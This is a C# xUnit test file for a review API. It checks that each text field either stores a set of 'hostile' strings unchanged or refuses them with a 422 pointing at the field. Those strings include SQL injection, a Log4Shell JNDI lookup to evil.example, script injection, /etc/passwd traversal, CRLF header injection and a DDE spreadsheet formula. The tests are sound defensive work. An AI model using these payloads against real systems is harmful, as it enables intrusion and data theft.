using System.Net;
using System.Text.Json.Nodes;

namespace ReviewApi.Tests.Http;

/// <summary>Hostile texts in every member that takes a text: each is kept as it is or refused at its place.</summary>
public sealed class HostileTextTests(ApiFixture api) : IClassFixture<ApiFixture>
{
    // Ids pick something that exists, so they are no part of a body that is taken.
    static readonly string[] Ids = ["/films/0/id", "/release/id"];

    static readonly Dictionary<string, string> Hostile = new()
    {
        ["right to left"] = "\u202Eדלת\u2066",
        ["combining marks"] = "e" + new string('\u0301', 99),
        ["U+FDFA, long when folded"] = new string('\ufdfa', 100),
        ["capitals that grow"] = string.Concat(Enumerable.Repeat("İŉǰΐ", 25)),
        ["noncharacters"] = "\uffff\ufffe\ufdd0",
        ["controls"] = "\u0001\u0008\u000b\u001f\u007f\u0085\u2028",
        ["four bytes"] = "😀𝄞\U0010FFFF",
        ["SQL"] = "'; drop table reviews; --",
        ["wildcards"] = "%_\\",
        ["a template"] = "{{7*7}}${7*7}#{7*7}<%= 7 %>",
        ["a look-up"] = "${jndi:ldap://evil.example/x}",
        ["a script"] = "</script><script>alert(1)</script>",
        ["a format"] = "%s%n{0}{1}",
        ["a path"] = "../../../etc/passwd",
        ["header lines"] = "a\r\nSet-Cookie: x=1",
        ["a formula"] = "=cmd|' /C calc'!A0",
        ["digits of another script"] = "١٢٣٤",
        ["a number"] = "99999999999999999999999",
        ["an exponent"] = "1e400",
        ["a pointer"] = "~1~0/",
        ["null"] = "NULL",
        ["nothing"] = "",
        ["a blank"] = "\u00a0",
    };

    public static TheoryData<string> Texts => [.. Hostile.Keys];

    [Theory]
    [MemberData(nameof(Texts))]
    public Task Given_a_hostile_text_when_in_any_member_then_it_is_kept_as_it_is_or_refused_there(string name) =>
        AssertEach(Example.WithEveryText(), "/v1/reviews?dryRun=true", Hostile[name]);

    [Theory]
    [InlineData("\0")]
    [InlineData("a\0b")]
    public Task Given_nul_when_in_any_member_then_422_with_its_pointer(string text) =>
        AssertEach(Example.WithEveryText(), "/v1/reviews?dryRun=true", text, mayBeKept: false);

    [Theory]
    [MemberData(nameof(Texts))]
    public Task Given_a_hostile_text_when_in_a_scale_then_it_is_kept_as_it_is_or_refused_there(string name) =>
        AssertEach(Labels(), "/v1/scales", Hostile[name]);

    [Fact]
    public Task Given_nul_when_in_a_scale_then_422_with_its_pointer() => AssertEach(Labels(), "/v1/scales", "a\0b", mayBeKept: false);

    [Fact]
    public async Task Given_every_text_member_of_the_openapi_document_when_compared_then_these_tests_send_it()
    {
        using var document = await api.Anonymous.Get("/openapi/v1.json");
        var schemas = (await Answer.Of(document)).Succeeded().Body["components"]!["schemas"]!.AsObject();
        var (known, sent) = (new HashSet<string>(), new HashSet<string>());
        Collect("ReviewInput", Example.WithEveryText().Put("/films/0/id", "x").Put("/release/id", "x"));
        Assert.True(known.Count > 50, "The document shows fewer texts than there are.");
        Assert.Empty(known.Except(sent));

        void Collect(string schema, JsonNode? body)
        {
            // A code has no members.
            if ((bool?)schemas[schema]!["readOnly"] == true || schemas[schema]!["properties"] is not JsonObject members)
                return;
            foreach (var (name, said) in members)
            {
                var value = body?[name];
                var shape = said!["items"] ?? said;
                var items = value is JsonArray array ? array.ToList() : [value];
                if ((bool?)said["readOnly"] == true)
                    continue;
                if (shape["$ref"] is { } reference)
                    items.ForEach(item => Collect(((string)reference!).Split('/')[^1], item));
                else if (shape["type"]?.ToString() == "string")
                    known.Add($"{schema}.{name}");
                if (shape["type"]?.ToString() == "string" && items.Exists(item => item is not null))
                    sent.Add($"{schema}.{name}");
            }
        }
    }

    [Fact]
    public async Task Given_every_text_at_once_when_posted_then_201_and_all_are_read_back()
    {
        var sent = Example.WithEveryText();
        var review = await api.Desk.Created(sent);
        Assert.All(Pointers.Texts(sent), pointer => Assert.Equal((string?)sent.At(pointer), (string?)review.Body.At(pointer)));
    }

    async Task AssertEach(JsonObject body, string path, string text, bool mayBeKept = true)
    {
        var faults = new List<string>();
        var pointers = Pointers.Texts(body).Concat(path == "/v1/scales" ? [] : Ids);
        // No member keeps NUL, which each has to refuse by itself.
        foreach (var pointer in mayBeKept ? Soak.Some(pointers, text) : pointers)
        {
            var sent = body.DeepClone().AsObject();
            if (path == "/v1/scales")
                sent.Put("/code", $"s{Guid.NewGuid():N}");
            using var answer = await api.Desk.Send("POST", path, Contents.Json(sent.Put(pointer, text)));
            var said = JsonNode.Parse(await answer.Content.ReadAsStringAsync())!.AsObject();
            var isRight = answer.StatusCode == HttpStatusCode.UnprocessableEntity
                ? Names(said, pointer)
                : answer.IsSuccessStatusCode && mayBeKept && (string?)said.At(pointer) == (pointer == "/release/barcode" ? "" : text);
            if (!isRight)
                faults.Add($"{pointer}: {(int)answer.StatusCode} {said.ToJsonString()}");
        }
        Assert.True(faults.Count == 0, string.Join('\n', faults));
    }

    // A reviewer's name is spoken of elsewhere, where its change is the fault.
    static bool Names(JsonObject problem, string pointer)
    {
        var places = problem.Faults().Select(fault => fault.Place).ToList();
        return places.Contains(pointer)
            || pointer == "/reviewers/0/name" && places.TrueForAll(place => place.EndsWith("/reviewer", StringComparison.Ordinal));
    }

    static JsonObject Labels()
    {
        var scale = ScaleCalls.Numeric().Put("/kind", "labels").Put("/labels/0/label", "Good").Put("/labels/0/score", 8);
        foreach (var member in new[] { "min", "max", "step" })
            scale.Remove(member);
        return scale;
    }
}
